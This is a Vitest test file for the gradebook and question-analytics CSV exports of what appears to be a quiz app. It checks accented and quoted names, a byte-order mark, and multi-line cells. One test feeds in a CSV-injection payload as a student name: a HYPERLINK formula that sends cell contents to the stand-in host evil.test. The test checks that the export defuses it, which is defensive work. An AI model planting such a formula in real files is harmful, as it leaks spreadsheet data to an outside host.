import { parse } from "csv-parse/sync";
import { describe, expect, it } from "vitest";
import { analyticsCsv, gradebookCsv } from "./csv";

describe("CSV exports", () => {
  it("round-trips names with accents, commas and quotes, and starts with a UTF-8 byte-order mark", () => {
    const csv = gradebookCsv(
      [
        {
          studentId: "1",
          name: "Kasim Cömert",
          email: "kc@x.test",
          enrolled: true,
          score: 0.875,
          attempts: 2,
          finishedAttempts: 1,
          timeMs: 95_400,
          lastActivity: new Date("2026-12-01T03:05:00Z"),
          late: false,
        },
        {
          studentId: "2",
          name: 'Dana "DJ" Jaxybekova, Jr.',
          email: "dj@x.test",
          enrolled: false,
          score: null,
          attempts: 0,
          finishedAttempts: 0,
          timeMs: 0,
          lastActivity: null,
          late: true,
        },
      ],
      "Asia/Almaty",
    );
    expect(csv.charCodeAt(0)).toBe(0xfeff);
    const rows = parse(csv, { bom: true, columns: true }) as Record<string, string>[];
    expect(rows).toEqual([
      {
        Student: "Kasim Cömert",
        Email: "kc@x.test",
        "In class": "yes",
        "Score (%)": "87.5",
        Attempts: "2",
        "Finished attempts": "1",
        "Time spent (s)": "95",
        "Last activity (Asia/Almaty)": "2026-12-01 08:05",
        Late: "no",
      },
      {
        Student: 'Dana "DJ" Jaxybekova, Jr.',
        Email: "dj@x.test",
        "In class": "no (removed)",
        "Score (%)": "",
        Attempts: "0",
        "Finished attempts": "0",
        "Time spent (s)": "0",
        "Last activity (Asia/Almaty)": "",
        Late: "yes",
      },
    ]);
  });

  it("defuses cells a spreadsheet would run as formulas", () => {
    const csv = gradebookCsv(
      [
        {
          studentId: "1",
          name: '=HYPERLINK("https://evil.test/?"&B2,"x")',
          email: "e@x.test",
          enrolled: true,
          score: null,
          attempts: 0,
          finishedAttempts: 0,
          timeMs: 0,
          lastActivity: null,
          late: false,
        },
      ],
      "UTC",
    );
    const [row] = parse(csv, { bom: true, columns: true }) as Record<string, string>[];
    expect(row!.Student).toBe(`'=HYPERLINK("https://evil.test/?"&B2,"x")`);
  });

  it("keeps a passage with line breaks in one cell, with the item analysis beside it", () => {
    const csv = analyticsCsv([
      {
        question: "Who?",
        rightAnswer: "Tokayev",
        answered: 4,
        share: 0.25,
        wrongAnswers: [{ answer: "Nazarbayev", count: 3 }],
        discrimination: -0.126,
        medianTimeMs: 8250,
        options: [
          { option: "Tokayev", count: 1, correct: true },
          { option: "Nazarbayev", count: 3, correct: false },
        ],
        flags: ["Negative discrimination"],
        passage: "Line one,\nline two",
        article: "Kyiv Independent",
      },
    ]);
    const [row] = parse(csv, { bom: true, columns: true }) as Record<string, string>[];
    expect(row).toMatchObject({
      "Most common wrong answers": "Nazarbayev (3)",
      "Source passage": "Line one,\nline two",
      "Correct (%)": "25",
      Discrimination: "-0.13",
      "Median time (s)": "8.3",
      "Answers per option": "Tokayev (right): 1; Nazarbayev: 3",
      Flags: "Negative discrimination",
    });
  });
});
